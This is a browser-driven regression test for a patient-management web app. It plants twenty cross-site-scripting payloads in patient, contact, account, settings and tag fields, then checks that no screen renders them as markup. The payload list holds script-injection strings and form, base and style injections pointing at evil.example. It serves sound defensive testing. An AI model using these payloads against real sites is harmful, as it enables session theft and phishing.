// R49, quick form: texts that would run if any screen showed them as markup.
import assert from "node:assert/strict";
import { test } from "node:test";
import { caller } from "./api.mjs";
import { assertQuiet, launch, open, settled, signIn, visit } from "./support.mjs";

const PAYLOADS = [
  "<script>akrabXss()</script>",
  "<img src=x data-xss onerror=akrabXss()>",
  "<svg data-xss onload=akrabXss()>",
  '"><img src=x data-xss onerror=akrabXss()>',
  "'><svg/data-xss/onload=akrabXss()>",
  "</title><script>akrabXss()</script>",
  "</textarea><img data-xss src=x onerror=akrabXss()>",
  "<iframe data-xss srcdoc='<script>parent.akrabXss()</script>'></iframe>",
  "<a data-xss href=javascript:akrabXss()>klik</a>",
  "javascript:akrabXss()",
  '" autofocus data-xss onfocus="akrabXss()',
  "<details data-xss open ontoggle=akrabXss()>",
  "<math data-xss><mtext><img src=x onerror=akrabXss()></mtext></math>",
  "<style data-xss>*{background:url(//evil.example)}</style>",
  "<form data-xss action=//evil.example><button>Masuk</button></form>",
  "<base data-xss href=//evil.example/>",
  "{{constructor.constructor('akrabXss()')()}}",
  "${akrabXss()}",
  "&lt;img src=x data-xss onerror=akrabXss()&gt;",
  "\u003cscript\u003eakrabXss()\u003c/script\u003e<!--",
];

const browser = await launch();

/** Stores a record; a refused text (422) is as good as a harmless one. */
async function store(who, path, body, tally) {
  const answer = await who.post(path, body);
  assert.ok([201, 409, 422].includes(answer.status), `POST ${path} ${JSON.stringify(body)}: ${answer.status} ${JSON.stringify(answer.body)}`);
  tally[answer.status === 201 ? "stored" : "refused"] += 1;
  return answer.status === 201 ? answer.body : undefined;
}

/** Puts every payload into every kind of text; answers the addresses of screens that show them. */
async function plant(tally) {
  const [manager, admin] = [await caller("manager"), await caller("admin")];
  const patient = await manager.first("/v1/patients?limit=1");
  const contact = await store(manager, "/v1/contacts", { name: "Sasaran Uji" }, tally);
  for (const [n, text] of PAYLOADS.entries()) {
    await store(manager, "/v1/patients", { name: text, birth_date: "1990-01-01" }, tally);
    await store(manager, "/v1/contacts", { name: `Uji ${text}` }, tally);
    await store(manager, `/v1/patients/${patient.id}/interactions`, { kind: "note", subject: text, body: text }, tally);
    await store(manager, "/v1/accounts", { name: text, kind: "supplier", notes: text, tax_number: text.slice(0, 40), address: { street: text } }, tally);
    await store(manager, "/v1/saved-views", { resource: "patients", name: text.slice(0, 60), definition: {} }, tally);
    await store(manager, "/v1/tags", { name: text.slice(0, 60) }, tally);
    await store(admin, "/v1/locations", { code: `xss-${n}`, name: text, time_zone: "Asia/Jakarta", address: { street: text } }, tally);
    await store(admin, "/v1/specialities", { code: `xss-${n}`, name_id: text, name_en: text }, tally);
    await store(admin, "/v1/practitioners", { name: text, licence_number: text.slice(0, 60) }, tally);
    await store(admin, "/v1/custom-fields", { resource: "account", key: `xss_${n}`, label_id: text, label_en: text, kind: "choice", choices: [text] }, tally);
  }
  await rename(manager, contact, tally);
  const accounts = await manager.get("/v1/accounts?limit=200");
  const account = accounts.body.data.find(({ notes }) => PAYLOADS.includes(notes)).id;
  return { patient: patient.id, contact: contact.id, account };
}

/** Texts inside a person: address, identifier; and the history that shows them. */
async function rename(manager, contact, tally) {
  for (const text of PAYLOADS) {
    const body = { addresses: [{ kind: "home", address: { street: text, village: text } }], identifiers: [{ kind: "external", value: text.slice(0, 60), issuer: text }] };
    const answer = await manager.patch(`/v1/contacts/${contact.id}`, body);
    assert.ok([200, 422].includes(answer.status), `${answer.status} ${JSON.stringify(answer.body)}`);
    tally[answer.status === 200 ? "stored" : "refused"] += 1;
  }
}

/** Elements that a stored text has become. */
const injected = () => document.querySelectorAll("[data-xss], img[src=x], iframe, body script, base").length;

test(`R49: ${PAYLOADS.length} payloads in every stored text stay text`, async () => {
  const tally = { stored: 0, refused: 0 };
  const ids = await plant(tally);
  const screens = {
    manager: [
      "/app/", "/app/patients", "/app/contacts", "/app/accounts", "/app/patients/new", "/app/accounts/new",
      `/app/patients/${ids.patient}`, `/app/patients/${ids.patient}?tab=changes`, `/app/patients/${ids.patient}/edit`,
      `/app/contacts/${ids.contact}`, `/app/contacts/${ids.contact}?tab=changes`, `/app/contacts/${ids.contact}/edit`,
      `/app/accounts/${ids.account}`, `/app/accounts/${ids.account}/edit`, "/app/settings/tags",
    ],
    admin: ["/app/settings/locations", "/app/settings/specialities", "/app/settings/practitioners", "/app/settings/custom-fields", "/app/settings/tags", "/"],
  };
  let visited = 0;
  for (const [role, paths] of Object.entries(screens)) {
    const { context, complaints } = await open(browser, { viewport: { width: 1440, height: 900 } });
    await context.exposeBinding("akrabXss", () => complaints.push("a stored text ran as a script"));
    const page = await context.newPage();
    await signIn(page, role);
    for (const path of paths) {
      await visit(page, path);
      assert.equal(await page.evaluate(injected), 0, `${path} shows a stored text as markup`);
      visited += 1;
    }
    if (role === "manager") {
      await page.keyboard.press("Control+k");
      await page.locator("dialog[open] input").fill("Uji img");
      await settled(page);
      assert.equal(await page.evaluate(injected), 0, "the palette shows a stored text as markup");
    }
    assertQuiet(complaints);
    await context.close();
  }
  console.log(`R49: ${tally.stored} texts stored, ${tally.refused} refused, ${visited} screens, 0 ran`);
});
